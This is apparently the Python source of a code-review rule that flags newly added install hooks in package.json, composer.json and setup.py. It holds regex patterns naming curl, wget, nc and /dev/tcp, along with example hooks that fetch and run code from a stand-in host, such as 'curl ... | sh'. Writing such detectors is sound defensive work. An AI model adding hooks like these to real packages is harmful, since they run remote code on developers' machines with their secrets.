"""change-install-script-added: installing the project, or depending on it, runs a command that it did not run before."""

from collections.abc import Iterable, Iterator

from readylayer_cli.code.paths import is_test_path, is_vendored_path
from readylayer_cli.code.source import SourceFile
from readylayer_cli.domain.grades import Confidence, Severity
from readylayer_cli.domain.patterns import lazy_pattern
from readylayer_cli.engines.review.rule import ChangeExample, ChangeMatch, ChangeRule, Match
from readylayer_cli.engines.review.rules.change._key_lines import KeyLines
from readylayer_cli.engines.review.rules.change._manifests_data import read_json, table
from readylayer_cli.engines.review.rules.change._places import head_span
from readylayer_cli.engines.review.view import ChangeView, FilePair

_HOOKS = {
    "package.json": frozenset(
        {"preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare", "dependencies", "preuninstall", "postuninstall"}
    ),
    "composer.json": frozenset(
        {"pre-install-cmd", "post-install-cmd", "pre-update-cmd", "post-update-cmd", "pre-autoload-dump", "post-autoload-dump", "post-create-project-cmd"}
    ),
}  # fmt: skip
_USUAL = lazy_pattern(
    r"(?:(?:npx|pnpm exec|yarn|bunx) )?(?:husky|patch-package|ts-patch|prisma generate|node-gyp(?:-build)?|prebuild-install|electron-builder install-app-deps|ngcc|lerna|nx|simple-git-hooks|lefthook|nuxi?|nuxt prepare"
    r"|is-ci|opencollective|svelte-kit sync|astro sync|turbo|tsc|tsup|unbuild|vite build|rollup|is-installed-globally|only-allow|skip-postinstall|playwright install|puppeteer|cypress install|wxt prepare|fumadocs-mdx)\b"
    r"|(?:npm|pnpm|yarn|bun) (?:run |run-script |i\b|install|ci|build|prepare)|npm-run-all\b|run-[sp]\b|(?:@php )?(?:artisan|bin/console)\b|@php artisan|@?php -r .*file_exists|@?auto-scripts|@[\w:-]+$|Illuminate\\|cache:clear|assets:install|(?:true|exit 0|echo\b.*|cd [\w./-]+)$"
)
_DOWNLOADS = lazy_pattern(
    r"\bcurl\b|\bwget\b|https?://|\bbase64\b|\beval\b|child_process|\|\s*(?:ba|z)?sh\b|Invoke-WebRequest|powershell|\bnc\b|/dev/tcp|\$\(|`"
)
_SETUP_CODE = lazy_pattern(
    r"(?<![.\w])(?:subprocess\.(?:run|call|check_call|check_output|Popen|getoutput)|os\.(?:system|popen|exec\w+|spawn\w+)|(?:urllib\.request\.)?urlopen|(?:urllib\.request\.)?urlretrieve|requests\.(?:get|post)"
    r"|socket\.\w+|exec|eval|__import__|base64\.b64decode|marshal\.loads)\s*\("
)
_SETUP_HOOK = lazy_pattern(
    r"\bcmdclass\s*=|\bclass\s+\w+\((?:\w+\.)?(?:install|develop|egg_info|build_py|bdist_egg|sdist)\)"
)
_SETUP_USUAL = lazy_pattern(
    r"version|__about__|[\"'](?:git|cmake|make|ninja|pkg-config|llvm-config|pg_config|\w+-config|nvcc|gcc|cargo)\b|sys\.executable|\bopen\(|read_text|\bcompile\("
)
_MAX_SHOWN = 120


def check(view: ChangeView) -> Iterable[ChangeMatch]:
    for pair in view.pairs:
        if pair.head is None or is_vendored_path(pair.path) or is_test_path(pair.path):
            continue
        name = pair.path.rpartition("/")[2]
        if name in _HOOKS:
            yield from (ChangeMatch(pair.path, match) for match in _scripts(pair, pair.head, _HOOKS[name]))
        elif name == "setup.py" and pair.base is not None:
            yield from (ChangeMatch(pair.path, match) for match in _setup(pair, pair.head))


def _scripts(pair: FilePair, head: SourceFile, hooks: frozenset[str]) -> Iterator[Match]:
    before = table(read_json(pair.base), "scripts") if pair.base is not None else {}
    lines = KeyLines(head)
    for hook, command in table(read_json(head), "scripts").items():
        known = set(_texts(before.get(hook)))
        new = [text for text in _texts(command) if text not in known]
        severity = _severity(new)
        if hook not in hooks or not new or (pair.base is None and severity is not Severity.HIGH):
            continue
        text = " && ".join(new)
        message = f"`{hook}` runs `{text[:_MAX_SHOWN]}` at every installation"
        span = head_span(head, lines.key(hook, lines.key("scripts")))
        yield Match(span, message, anchor=f"{hook} {text[:200]}", symbol=hook, severity=severity)


def _texts(command: object) -> list[str]:
    parts = command if isinstance(command, list) else [command]
    return [part[:_MAX_COMMAND] for part in parts if isinstance(part, str) and part.strip()]


_MAX_COMMAND = 5000


def _severity(texts: list[str]) -> Severity:
    if any(_DOWNLOADS.search(text) for text in texts):
        return Severity.HIGH
    is_usual = all(_USUAL.match(command) for text in texts for command in _commands(text) if command)
    return Severity.LOW if is_usual else Severity.MEDIUM


_SEPARATOR = lazy_pattern(r"(?:\"[^\"]*\"|'[^']*')|(&&|\|\||;)")


def _commands(text: str) -> Iterator[str]:
    """The commands of a line of shell; separators inside quotes separate nothing."""
    start = 0
    for found in _SEPARATOR.finditer(text):
        if found[1]:
            yield text[start : found.start()].strip()
            start = found.end()
    yield text[start:].strip()


def _setup(pair: FilePair, head: SourceFile) -> Iterator[Match]:
    gone = {text.strip() for _, text in pair.change.removed}
    for line, text in pair.change.added:
        if text.strip() in gone or text.lstrip().startswith("#"):
            continue
        code = _SETUP_CODE.search(text[:_MAX_COMMAND])
        found = code or _SETUP_HOOK.search(text[:_MAX_COMMAND])
        if found:
            message = f"`{found[0].strip()}` runs when the package is built or installed"
            is_mild = code is None or bool(_SETUP_USUAL.search(text[:_MAX_COMMAND]))
            yield Match(head_span(head, line), message, severity=Severity.LOW if is_mild else Severity.MEDIUM)


_PACKAGE = '{{\n  "name": "shop",\n  "scripts": {{\n    "test": "jest"{}\n  }}\n}}\n'
_SETUP = "from setuptools import setup\n\nsetup(name='shop')\n"

RULE = ChangeRule(
    id="change-install-script-added",
    title="Installing the project runs a command that it did not run before",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    cwe=("CWE-829", "CWE-506"),
    tags=("dependencies",),
    what="A new or changed install hook of a `package.json` or `composer.json`, or code in `setup.py` that starts programs or reads from the "
    "network; high if it downloads or hides something, low for usual helpers such as husky. In a new package only the former is told.",
    why="It runs on every developer's machine and in every pipeline, with their secrets, before anybody has looked at the code.",
    fix="Do the work in a build step that people start themselves, or publish a prepared package.",
    check=check,
    bad=(
        ChangeExample({"package.json": _PACKAGE.format("")}, {"package.json": _PACKAGE.format(',\n    "postinstall": "node scripts/setup.js"')}),
        ChangeExample({"package.json": _PACKAGE.format("")}, {"package.json": _PACKAGE.format(',\n    "preinstall": "curl -s https://x.example/i.sh | sh"')}),
        ChangeExample({"package.json": _PACKAGE.format(',\n    "prepare": "husky"')}, {"package.json": _PACKAGE.format(',\n    "prepare": "husky && node scripts/collect.js"')}),
        ChangeExample({"composer.json": _PACKAGE.format("")}, {"composer.json": _PACKAGE.format(',\n    "post-install-cmd": ["@php artisan optimize", "php -r \\"copy(\'https://x.example/a\', \'a.php\');\\""]')}),
        ChangeExample({"setup.py": _SETUP}, {"setup.py": "import urllib.request\nurllib.request.urlopen('https://x.example')\n" + _SETUP}),
    ),
    good=(
        ChangeExample({"package.json": _PACKAGE.format("")}, {"package.json": _PACKAGE.format(',\n    "build": "node scripts/setup.js"')}),
        ChangeExample({"setup.py": _SETUP}, {"setup.py": _SETUP.replace("'shop'", "'shop', install_requires=['requests']")}),
        ChangeExample({"setup.py": _SETUP}, {"setup.py": "import re\nVERSION = re.compile(r'\\d+')\n" + _SETUP}),
        ChangeExample({}, {"packages/ui/package.json": _PACKAGE.format(',\n    "prepare": "node build.js"')}),
    ),
)  # fmt: skip
